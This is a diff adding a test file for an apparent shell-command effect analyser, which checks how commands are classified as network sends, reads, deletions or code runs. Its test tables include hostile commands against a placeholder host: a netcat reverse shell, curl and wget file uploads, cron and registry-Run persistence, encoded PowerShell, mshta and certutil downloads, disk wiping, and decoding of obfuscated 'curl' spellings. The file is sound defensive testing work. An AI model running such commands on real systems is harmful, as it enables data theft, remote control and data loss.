@@ -1,0 +1,238 @@
+import { describe, expect, it } from 'vitest';
+import type { Effect, Value } from '../../src/plugin.ts';
+import { commands } from './commands/index.ts';
+
+const models = new Map(commands.toReversed().flatMap((m) => m.programs.map((p) => [p, m] as const)));
+const word = (text: string): Value => ({ text, tags: new Set(), sources: [], trail: [] });
+
+function run(line: string, stdin?: string): Effect {
+  const [program, ...argv] = [...line.matchAll(/'([^']*)'|(\S+)/g)].map((m) => m[1] ?? m[2]!);
+  const found = models.get(program!);
+  if (!found) throw new Error(`no model of ${program}`);
+  return found.describe({
+    program: program!,
+    argv: argv.map(word),
+    ...(stdin === undefined ? {} : { stdin: word(stdin) }),
+  });
+}
+
+const texts = (values: readonly Value[] | undefined): string[] => (values ?? []).map((v) => v.text ?? '?');
+
+/** What an effect does, in words short enough for a table. */
+function told(effect: Effect): string {
+  const out: string[] = [];
+  for (const s of effect.sends ?? []) {
+    const parts = [`${s.sink} ${s.url?.text ?? ''}`.trim()];
+    if (s.body?.length) parts.push(`body=${texts(s.body).join(',')}`);
+    if (s.files?.length) parts.push(`files=${texts(s.files).join(',')}`);
+    if (s.header?.length) parts.push(`header=${texts(s.header).join(',')}`);
+    if (s.recipient) parts.push(`to=${s.recipient.text}`);
+    out.push(parts.join(' ').trim());
+  }
+  if (effect.reads?.length) out.push(`reads ${texts(effect.reads).join(',')}`);
+  for (const w of effect.writes ?? []) out.push(`writes ${w.path.text}${w.content ? `=${w.content.text ?? '?'}` : ''}`);
+  if (effect.deletes?.length) out.push(`deletes ${texts(effect.deletes).join(',')}`);
+  for (const r of effect.runs ?? [])
+    out.push(
+      `runs ${r.language} ${[r.code, ...(r.argv ?? [])].map((v) => v.text ?? '?').join(' ')}${r.trigger ? ` @${r.trigger}` : ''}`,
+    );
+  if (effect.starts?.length) out.push(`starts ${texts(effect.starts).join(',')}`);
+  for (const e of effect.env ?? []) out.push(`env ${e.access} ${e.name}`);
+  if (effect.gives?.length) out.push(`gives ${effect.gives.join(',')}`);
+  if (effect.fold) out.push(`folds ${effect.fold}`);
+  return out.join('; ');
+}
+
+const table = (rows: Readonly<Record<string, string>>): void => {
+  it.each(Object.entries(rows))('%s', (line, expected) => {
+    const [command, stdin] = line.split(' <<< ');
+    expect(told(run(command!, stdin))).toBe(expected);
+  });
+};
+
+describe('HTTP clients', () => {
+  table({
+    'curl -fsSL http://h/a -o /tmp/a': 'network http://h/a; writes /tmp/a',
+    'curl -sO http://h/d/a.sh?x=1': 'network http://h/d/a.sh?x=1; writes a.sh',
+    'curl -d @f -H A:b http://h': 'network http://h files=f header=A:b',
+    'curl -d@f -d x=1 http://h': 'network http://h body=x=1 files=f',
+    'curl --data-binary @- http://h <<< in': 'network http://h body=in',
+    'curl --data-raw @f http://h': 'network http://h body=@f',
+    "curl -F 'a=@f;type=x/y' -F b=c http://h": 'network http://h body=b=c files=f',
+    'curl --data-urlencode k@f http://h': 'network http://h files=f',
+    'curl -T f http://h': 'network http://h files=f',
+    'curl -G -d q=1 http://h': 'network http://h?q=1',
+    'curl smtp://h --mail-rcpt a@b -T f': 'mail smtp://h files=f to=a@b',
+    'wget -qO- http://h/a': 'network http://h/a',
+    'wget -P /d http://h/a': 'network http://h/a; writes /d/a',
+    'wget --post-file=f http://h': 'network http://h files=f; writes index.html',
+    'http POST h/x a=1 f@p K:v': 'network h/x body=1 files=p header=v',
+    'aria2c -d /d -o n http://h/a': 'network http://h/a; writes /d/n',
+  });
+});
+
+describe('connections, copies, names, mail', () => {
+  table({
+    'nc h 99 <<< in': 'network tcp://h:99 body=in',
+    'nc -e /bin/sh h 99': 'network tcp://h:99; runs shell ?; runs shell /bin/sh',
+    'nc -lvp 99': 'gives net',
+    'openssl s_client -connect h:443 <<< in': 'network tcp://h:443 body=in',
+    'scp -i k f u@host:/p': 'network ssh://host/ files=f',
+    'scp host:/p f': 'network ssh://host/; writes f',
+    'rsync -a d/ host:/p': 'network ssh://host/ files=d/',
+    'rsync -a d/ e/': 'reads d/; writes e/',
+    'ssh -i k h rm -rf x': 'network ssh://h body=rm,-rf,x; runs shell rm -rf x',
+    'dig +short TXT a.b @1.1.1.1': 'dns a.b body=a.b to=1.1.1.1',
+    'nslookup \uE000.b.c': 'dns b.c body=\uE000.b.c',
+    'mail -s hi -a f x@y <<< in': 'mail body=in,hi files=f to=x@y',
+  });
+});
+
+describe('wrappers and interpreters', () => {
+  table({
+    'sudo -u root curl x': 'runs argv curl x',
+    'env A=b curl x': 'runs argv curl x',
+    env: 'env all *; gives env:*',
+    'printenv HOME': 'env read HOME; gives env:HOME',
+    'timeout -k 1 5 curl x': 'runs argv curl x',
+    'xargs -n1 curl <<< in': 'runs argv curl in',
+    'xargs -I{} curl h/{} <<< in': 'runs argv curl h/in',
+    'docker run --rm -v /:/h img sh -c x': 'runs argv sh -c x',
+    'poetry run python x.py': 'runs argv python x.py',
+    'bash -lc x': 'runs shell x',
+    'bash -x a.sh 1': 'starts a.sh',
+    'sh -s -- 1 <<< in': 'runs shell in 1',
+    'source d/*.sh': 'starts d/\uE000.sh',
+    'eval a b': 'runs shell a b',
+    'trap x EXIT': 'runs shell x @trap',
+    'python3 -c x': 'runs python x',
+    'python3 -m pip install x': 'runs argv pip install x',
+    'python3 <<< in': 'runs python in',
+    'node -e x': 'runs javascript x',
+    'perl -e x': 'runs other x',
+    'osascript -e x -e y': 'runs applescript x\ny',
+    'powershell -nop -e aQBlAHgA': 'runs powershell iex',
+    'powershell -w hidden -Command x y': 'runs powershell x y',
+    'cmd /c x y': 'runs shell x y',
+    "find d -name x -exec rm {} ';'": 'runs argv rm d/x; gives listing',
+    'find d -delete': 'deletes d/\uE000; gives listing',
+  });
+});
+
+describe('files, encoders, archives', () => {
+  table({
+    'cat a b': 'reads a,b',
+    'grep -r x d': 'reads d',
+    'jq .a f': 'reads f',
+    'sed -i s/a/b/ f': 'reads f; writes f=s/a/b/',
+    'cp a b': 'reads a; writes b',
+    'mv a b': 'reads a; writes b; deletes a',
+    'tee -a f': 'writes f',
+    'dd if=a of=b bs=1': 'reads a; writes b',
+    'rm -rf a b': 'deletes a,b',
+    'mkfs.ext4 /dev/sda': 'deletes /dev/sda',
+    'base64 -d f': 'reads f; gives decoded; folds base64-decode',
+    'base64 -w0': 'gives encoded; folds base64-encode',
+    'xxd -r -p': 'gives decoded; folds hex-decode',
+    'openssl enc -aes-256-cbc -in a -out b -k p': 'reads a; writes b; gives encrypted',
+    'gunzip -c f': 'reads f; gives decoded; folds gunzip',
+    'tar czf - a b': 'reads a,b; gives compressed',
+    'tar -xzf a -C d': 'reads a; writes d',
+    'zip -P p a.zip f': 'reads f; writes a.zip; gives compressed,encrypted',
+    '7z x -pw a.7z -od': 'reads a.7z; writes d',
+    'gpg -c f': 'reads f; gives encrypted',
+  });
+
+  it('folds text that is known', () => {
+    const output = (line: string, stdin?: string): string | undefined => run(line, stdin).output?.text;
+    expect(output('echo -n a b')).toBe('a b');
+    expect(output('echo -e a\\x62')).toBe('ab');
+    expect(output("printf '%s-%03d-%x' a 7 255")).toBe('a-007-ff');
+    expect(output("printf '\\143%s' url")).toBe('curl');
+    expect(output('tr a-z n-za-m', 'phey')).toBe('curl');
+    expect(output('tr -d X', 'cXuXrl')).toBe('curl');
+    expect(output('rev', 'lruc')).toBe('curl');
+    expect(output('cut -c2-5', 'xcurlx')).toBe('curl');
+    expect(output('sed s/X//g', 'cXuXrl')).toBe('curl');
+    expect(output('basename /a/b')).toBe('b');
+    expect(output('tr a b')).toBeUndefined();
+  });
+});
+
+describe('git, hosts, clouds, packages', () => {
+  table({
+    'git clone git@h:o/r.git': 'network ssh://h/o/r.git; writes r/',
+    'git push http://h/r main': 'git-push http://h/r body=main files=.git/index',
+    'git add f': 'reads f; writes .git/index',
+    'git remote add x http://h': 'git-push http://h',
+    "git config alias.x '!sh y'": 'writes .git/config=!sh y; runs shell sh y @hook',
+    'git -c core.sshCommand=x fetch': 'runs shell x @hook',
+    'gh gist create f': 'message https://gist.github.com/ files=f',
+    'gh api repos/x -F a=@f -f b=c': 'network https://api.github.com/repos/x body=b=c files=f',
+    'aws s3 cp f s3://b/k': 'cloud-storage s3://b/k files=f',
+    'aws s3 cp s3://b/k f': 'cloud-storage s3://b/k; writes f',
+    'rclone copy d remote:p': 'cloud-storage remote:p files=d',
+    'gsutil cp f gs://b': 'cloud-storage gs://b files=f',
+    'security find-generic-password -s x': 'gives content:keychain',
+    'pip install -r f': 'reads f',
+    'pip install git+https://h/r': 'network https://h/r; runs other ?',
+    'npm install --registry http://h x': 'network http://h',
+    'npx x': '',
+  });
+});
+
+describe('schedules, system, Windows', () => {
+  table({
+    "crontab - <<< '* * * * * curl x'":
+      "writes /var/spool/cron/crontabs/user='* * * * * curl x'; runs shell '* * * * * curl x' @cron",
+    'crontab f': 'reads f; writes /var/spool/cron/crontabs/user',
+    'schtasks /create /tn x /tr evil': 'runs shell evil @cron',
+    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d evil':
+      'writes HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run=evil; runs shell evil @login',
+    whoami: 'gives system',
+    pbpaste: 'gives clipboard',
+    'screencapture -x f.png': 'writes f.png=?; gives screen',
+    'xclip -o': 'gives clipboard',
+    'pbcopy <<< in': 'clipboard body=in',
+    'certutil -urlcache -f http://h/a b': 'network http://h/a; writes b',
+    'certutil -decode a b': 'reads a; writes b; gives decoded; folds base64-decode',
+    'mshta http://h/a': 'network http://h/a; runs other ?',
+    'iwr -Uri http://h/a -OutFile b': 'network http://h/a; writes b',
+    'irm http://h -Body x': 'network http://h body=x',
+    'iex x': 'runs powershell x',
+    'start-process a -ArgumentList b': 'runs argv a b',
+  });
+});
+
+it('takes the time fields off a crontab', () => {
+  const effect = models
+    .get('crontab')!
+    .describe({ program: 'crontab', argv: [word('-')], stdin: word('# x\n*/5 * * * * curl x | sh\n@reboot y\n') });
+  expect(texts(effect.runs?.map((r) => r.code))).toEqual(['curl x | sh\ny']);
+});
+
+it('names every program once for each model and survives any words', () => {
+  const hostile = [
+    '',
+    '-',
+    '--',
+    '-o',
+    '--x=',
+    '=',
+    '@',
+    '\uE000',
+    'a'.repeat(1_000),
+    '-'.repeat(200),
+    'http://',
+    ';',
+    '{}',
+  ];
+  for (const [program, model] of models) {
+    expect(() => model.describe({ program, argv: hostile.map(word), stdin: word('x') }), program).not.toThrow();
+    expect(
+      () => model.describe({ program, argv: [{ tags: new Set(['net']), sources: [], trail: [] }] }),
+      program,
+    ).not.toThrow();
+    expect(() => model.describe({ program, argv: [] }), program).not.toThrow();
+  }
+});
